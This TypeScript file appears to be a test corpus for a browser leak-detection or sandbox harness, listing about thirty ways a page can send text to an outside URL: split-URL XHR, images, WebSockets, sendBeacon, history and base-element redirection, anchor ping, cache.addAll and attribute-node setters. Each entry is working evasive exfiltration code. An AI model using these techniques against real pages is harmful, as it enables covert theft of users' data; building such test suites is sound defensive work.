import { inQuery } from "./vector.ts";
import type { Vector } from "./vector.ts";

/** Addresses that a page names in other words than the browser asks for them. */
export const ADDRESSES: readonly Vector[] = [
  {
    name: "xhr-tab",
    run: (text, url) => {
      const query = encodeURIComponent(text);
      const xhr = new XMLHttpRequest();
      xhr.open("GET", `${url}?q=${query.slice(0, 35)}\t${query.slice(35)}`);
      xhr.send();
    },
    arrives: inQuery,
  },
  {
    name: "img-line-end",
    run: (text, url) => {
      const query = encodeURIComponent(text);
      new Image().src = `${url}?q=${query.slice(0, 35)}\n${query.slice(35)}`;
    },
    arrives: inQuery,
  },
  {
    name: "img-srcset-tab",
    run: (text, url) => {
      new Image().srcset = `${url}?q=${encodeURIComponent(text)}\t1x`;
    },
    arrives: inQuery,
  },
  {
    name: "websocket-tab",
    run: (text, url) => {
      const query = encodeURIComponent(text);
      const base = url.replace("https", "wss").replace("/sink/", "/ws/");
      return void new WebSocket(`${base}?q=${query.slice(0, 35)}\t${query.slice(35)}`);
    },
    arrives: inQuery,
  },
  {
    name: "beacon-tab",
    run: (text, url) => {
      const query = encodeURIComponent(text);
      return navigator.sendBeacon(`${url}?q=${query.slice(0, 35)}\t${query.slice(35)}`);
    },
    arrives: inQuery,
  },
  {
    name: "xhr-own-address",
    run: (text, url) => {
      history.replaceState(0, "", `${url}?q=${encodeURIComponent(text)}`);
      const xhr = new XMLHttpRequest();
      xhr.open("GET", "");
      xhr.send();
      history.replaceState(0, "", "/");
    },
    arrives: inQuery,
  },
  {
    name: "beacon-own-address",
    run: (text, url) => {
      history.replaceState(0, "", `${url}?q=${encodeURIComponent(text)}`);
      navigator.sendBeacon("");
      history.replaceState(0, "", "/");
    },
    arrives: inQuery,
  },
  {
    name: "img-own-address",
    run: (text, url) => {
      history.replaceState(0, "", `${url}?q=${encodeURIComponent(text)}`);
      new Image().src = "#a";
      setTimeout(() => {
        history.replaceState(0, "", "/");
      });
    },
    arrives: inQuery,
  },
  {
    name: "img-base",
    run: (text, url) => {
      const base = document.createElement("base");
      document.head.append(base);
      base.href = `${url}?q=${encodeURIComponent(text)}`;
      new Image().src = "#a";
      setTimeout(() => {
        base.remove();
      });
    },
    arrives: inQuery,
  },
  {
    name: "img-late-base",
    run: (text, url) => {
      const base = document.createElement("base");
      document.head.append(base);
      new Image().src = "#a";
      base.href = `${url}?q=${encodeURIComponent(text)}`;
      setTimeout(() => {
        base.remove();
      });
    },
    arrives: inQuery,
    // Firefox resolves the address before.
    only: "chromium",
  },
  {
    name: "img-base-markup",
    run: (text, url) => {
      const base = `<base href="${url}?q=${encodeURIComponent(text)}">`;
      document.head.insertAdjacentHTML("beforeend", base);
      new Image().src = "#a";
      setTimeout(() => document.querySelector("base")?.remove());
    },
    arrives: inQuery,
  },
  {
    name: "attribute-by-function",
    run: (text, url) => {
      const name = Object.assign(() => 0, { toString: () => "src" }) as unknown as string;
      document.createElement("img").setAttribute(name, `${url}?q=${encodeURIComponent(text)}`);
    },
    arrives: inQuery,
  },
  {
    name: "cache-add-all",
    run: async (text, url) => {
      const cache = await caches.open("x");
      await cache.addAll([`${url}?q=${encodeURIComponent(text)}`]);
    },
    arrives: inQuery,
  },
  {
    name: "websocket-close",
    run: (text, url) => {
      const socket = new WebSocket(url.replace("https", "wss").replace("/sink/", "/ws/"));
      socket.addEventListener("open", () => {
        socket.close(1000, text);
      });
    },
  },
  {
    name: "xlink-prefix",
    run: (text, url) => {
      const svg = document.createElementNS("http://www.w3.org/2000/svg", "svg");
      const image = document.createElementNS("http://www.w3.org/2000/svg", "image");
      svg.append(image);
      document.body.append(svg);
      const address = `${url}?q=${encodeURIComponent(text)}`;
      image.setAttributeNS("http://www.w3.org/1999/xlink", "a:href", address);
    },
    arrives: inQuery,
  },
  {
    name: "anchor-ping",
    run: (text, url) => {
      const link = document.createElement("a");
      link.href = "#here";
      link.ping = `${url}?q=${encodeURIComponent(text)}`;
      document.body.append(link);
      link.click();
    },
    arrives: inQuery,
    only: "chromium",
  },
  {
    name: "ping-attribute",
    run: (text, url) => {
      const link = document.createElement("a");
      link.href = "#there";
      link.setAttribute("ping", `${url}?q=${encodeURIComponent(text)}`);
      document.body.append(link);
      link.click();
    },
    arrives: inQuery,
    only: "chromium",
  },
  // Last: a page behind another one waits longer for its timers.
  {
    name: "window-open-tab",
    run: (text, url) => {
      const query = encodeURIComponent(text);
      return void window.open(`${url}?q=${query.slice(0, 35)}\t${query.slice(35)}`);
    },
    arrives: inQuery,
  },
];

/** Backgrounds, which only a page in front is given, and attributes as nodes of their own. */
export const ATTRIBUTES: readonly Vector[] = [
  {
    name: "body-background",
    run: (text, url) => {
      Reflect.set(document.body, "background", `${url}?q=${encodeURIComponent(text)}`);
    },
    arrives: inQuery,
  },
  {
    name: "table-background",
    run: (text, url) => {
      const table = document.createElement("table");
      document.body.prepend(table);
      table.setAttribute("background", `${url}?q=${encodeURIComponent(text)}`);
    },
    arrives: inQuery,
  },
  {
    name: "attribute-value",
    run: (text, url) => {
      const image = document.createElement("img");
      image.setAttribute("src", "about:blank");
      const attribute = image.getAttributeNode("src");
      if (attribute !== null) attribute.value = `${url}?q=${encodeURIComponent(text)}`;
    },
    arrives: inQuery,
  },
  {
    name: "attribute-node-value",
    run: (text, url) => {
      const image = document.createElement("img");
      image.setAttribute("src", "about:blank");
      const attribute = image.getAttributeNode("src");
      if (attribute !== null) attribute.nodeValue = `${url}?q=${encodeURIComponent(text)}`;
    },
    arrives: inQuery,
  },
  {
    name: "attribute-text-content",
    run: (text, url) => {
      const image = document.createElement("img");
      image.setAttribute("src", "about:blank");
      const attribute = image.getAttributeNode("src");
      if (attribute !== null) attribute.textContent = `${url}?q=${encodeURIComponent(text)}`;
    },
    arrives: inQuery,
  },
  {
    name: "attribute-node",
    run: (text, url) => {
      const attribute = document.createAttribute("src");
      attribute.value = `${url}?q=${encodeURIComponent(text)}`;
      document.createElement("img").setAttributeNode(attribute);
    },
    arrives: inQuery,
  },
  {
    name: "attribute-node-ns",
    run: (text, url) => {
      const attribute = document.createAttribute("src");
      attribute.value = `${url}?q=${encodeURIComponent(text)}`;
      document.createElement("img").setAttributeNodeNS(attribute);
    },
    arrives: inQuery,
  },
  {
    name: "attribute-named-item",
    run: (text, url) => {
      const attribute = document.createAttribute("src");
      attribute.value = `${url}?q=${encodeURIComponent(text)}`;
      document.createElement("img").attributes.setNamedItem(attribute);
    },
    arrives: inQuery,
  },
  {
    name: "attribute-named-item-ns",
    run: (text, url) => {
      const attribute = document.createAttribute("src");
      attribute.value = `${url}?q=${encodeURIComponent(text)}`;
      document.createElement("img").attributes.setNamedItemNS(attribute);
    },
    arrives: inQuery,
  },
];
